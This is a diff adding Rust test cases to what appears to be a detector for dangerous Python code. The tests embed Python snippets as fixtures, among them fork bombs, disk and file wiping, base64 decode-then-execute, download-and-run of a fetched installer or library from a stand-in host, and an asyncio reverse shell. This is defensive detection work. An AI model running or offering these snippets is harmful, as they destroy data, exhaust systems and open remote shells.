@@ -467,6 +467,154 @@ fn recursion_that_is_not_a_fork_bomb() {
 }
 
 #[test]
+fn a_script_that_starts_itself_on_every_run_is_a_fork_bomb() {
+    // Each copy starts more copies of the script: twice from main, once per pass of a
+    // loop, or once from a helper function (a chain that never ends).
+    fires(
+        "CRD111",
+        "import subprocess, sys\nif __name__ == '__main__':\n    subprocess.Popen([sys.executable, __file__])\n    subprocess.Popen([sys.executable, __file__])\n",
+    );
+    fires(
+        "CRD111",
+        "import os, sys\nme = os.path.abspath(sys.argv[0])\nfor _ in range(3):\n    os.system(f'{sys.executable} {me} &')\n",
+    );
+    fires(
+        "CRD111",
+        "import subprocess, sys\nfrom pathlib import Path\ndef spread():\n    subprocess.run(['nohup', 'python3', str(Path(__file__).resolve())])\ndef main():\n    spread()\nmain()\n",
+    );
+}
+
+#[test]
+fn a_script_that_starts_itself_behind_a_condition_is_not() {
+    // A parent starting workers of its own script, a child leaving early, a restart in
+    // place (`os.execv`), a function never called, and a sibling script started.
+    silent(
+        "CRD111",
+        "import subprocess, sys\nif len(sys.argv) > 1:\n    print('worker', sys.argv[1])\nelse:\n    procs = [subprocess.Popen([sys.executable, __file__, str(i)]) for i in range(4)]\n    for p in procs:\n        p.wait()\n",
+    );
+    silent(
+        "CRD111",
+        "import os, subprocess, sys\nif os.environ.get('CHILD'):\n    print('in child')\n    sys.exit(0)\nsubprocess.run([sys.executable, __file__], env={**os.environ, 'CHILD': '1'})\n",
+    );
+    silent(
+        "CRD111",
+        "import os, sys\nos.execv(sys.executable, [sys.executable, __file__, '--reloaded'])\n",
+    );
+    silent(
+        "CRD111",
+        "import subprocess, sys\ndef relaunch():\n    subprocess.Popen([sys.executable, __file__])\n    subprocess.Popen([sys.executable, __file__])\nprint('not called')\n",
+    );
+    silent(
+        "CRD111",
+        "import os, subprocess, sys\nhere = os.path.dirname(os.path.abspath(__file__))\nfor name in ['a', 'b']:\n    subprocess.run([sys.executable, os.path.join(here, 'worker.py'), name])\n",
+    );
+    silent(
+        "CRD111",
+        "import shutil, subprocess, sys\nsubprocess.run(['cp', __file__, '/tmp/backup.py'])\nshutil.copy(__file__, 'copy.py')\n",
+    );
+}
+
+#[test]
+fn commands_left_running_in_the_background_by_an_endless_loop_are_a_fork_bomb() {
+    // `cmd &` returns at once, so the loop piles up processes; a loop that waits between
+    // starts does not.
+    fires(
+        "CRD111",
+        "import itertools, subprocess\nfor n in itertools.count():\n    subprocess.call(f'yes > /dev/null &', shell=True)\n",
+    );
+    silent(
+        "CRD111",
+        "import os, time\nwhile True:\n    os.system('notify-send tick &')\n    time.sleep(60)\n",
+    );
+}
+
+#[test]
+fn overwriting_found_files_or_a_disk_destroys_them() {
+    // Truncating every file a walk of /var/log finds, zeroing a disk, overwriting every
+    // file below home in place; a report written into a known directory is not.
+    fires(
+        "CRD104",
+        "import os\nfor root, _, names in os.walk('/var/log'):\n    for n in names:\n        open(os.path.join(root, n), 'w').close()\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nfd = os.open('/dev/nvme0n1', os.O_WRONLY)\nos.write(fd, bytes(1 << 20))\n",
+    );
+    fires(
+        "CRD104",
+        "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    with open(p, 'r+b') as f:\n        f.write(b'\\0' * 64)\n",
+    );
+    silent(
+        "CRD104",
+        "import os\nname = input()\nwith open(os.path.expanduser(f'~/reports/{name}.txt'), 'w') as f:\n    f.write('ok')\n",
+    );
+}
+
+#[test]
+fn an_environment_variable_with_a_default_is_that_default_where_it_is_unset() {
+    // The parent of `$XDG_CACHE_HOME`, unset, is home.
+    fires(
+        "CRD104",
+        "import os, shutil\nfrom pathlib import Path\nbase = os.environ.get('XDG_CACHE_HOME', '~/.cache')\nshutil.rmtree(Path(os.path.expanduser(base)).parent)\n",
+    );
+    silent(
+        "CRD104",
+        "import os, shutil\nshutil.rmtree(os.environ.get('BUILD_DIR', 'build'), ignore_errors=True)\n",
+    );
+}
+
+#[test]
+fn decoded_bytes_written_to_a_file_and_run_are_decode_then_execute() {
+    // A temporary file filled through its descriptor, then handed to a shell.
+    fires(
+        "CRD103",
+        "import base64, os, subprocess, tempfile\nfd, path = tempfile.mkstemp(suffix='.sh')\nos.write(fd, base64.b64decode('ZWNobyBoaQ=='))\nos.close(fd)\nsubprocess.run(['sh', path])\n",
+    );
+    // Decoded data saved and opened with a viewer is not run.
+    silent(
+        "CRD103",
+        "import base64, subprocess\nopen('logo.png', 'wb').write(base64.b64decode('iVBORw0KGgo='))\nsubprocess.run(['file', 'logo.png'])\n",
+    );
+}
+
+#[test]
+fn downloads_unpacked_loaded_or_put_on_the_import_path_are_run() {
+    // A fetched tarball unpacked, then its installer run; a fetched shared library
+    // loaded; a fetched zip put first on sys.path and imported from.
+    fires(
+        "CRD102",
+        "import io, subprocess, tarfile, requests\nblob = requests.get('https://h.example/t.tgz').content\ntarfile.open(fileobj=io.BytesIO(blob)).extractall('vendor/pkg')\nsubprocess.run(['bash', 'vendor/pkg/setup.sh'])\n",
+    );
+    fires(
+        "CRD102",
+        "import ctypes, urllib.request\nurllib.request.urlretrieve('https://h.example/x.so', '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')\n",
+    );
+    fires(
+        "CRD102",
+        "import sys, urllib.request\nurllib.request.urlretrieve('https://h.example/v.zip', 'v.zip')\nsys.path.insert(0, 'v.zip')\nimport vendored\n",
+    );
+    // A dataset unpacked and read by the program's own script is not.
+    silent(
+        "CRD102",
+        "import io, subprocess, zipfile, requests\nblob = requests.get('https://h.example/d.zip').content\nzipfile.ZipFile(io.BytesIO(blob)).extractall('data')\nsubprocess.run(['python3', 'train.py', 'data/train.csv'])\n",
+    );
+}
+
+#[test]
+fn a_shell_on_an_asyncio_connection_is_a_reverse_shell() {
+    // `asyncio.open_connection` is a socket like any other, and the argv of
+    // `create_subprocess_exec` is its arguments.
+    fires(
+        "CRD101",
+        "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('h.example', 7000)\n    p = await asyncio.create_subprocess_exec('/bin/sh', '-i', stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)\nasyncio.run(main())\n",
+    );
+    fires(
+        "CRD102",
+        "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('h.example', 80)\n    body = (await r.read()).decode()\n    await asyncio.create_subprocess_exec('sh', '-c', body)\nasyncio.run(main())\n",
+    );
+}
+
+#[test]
 fn decoded_code_is_analysed_as_code_too() {
     // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
     // here a reverse shell.
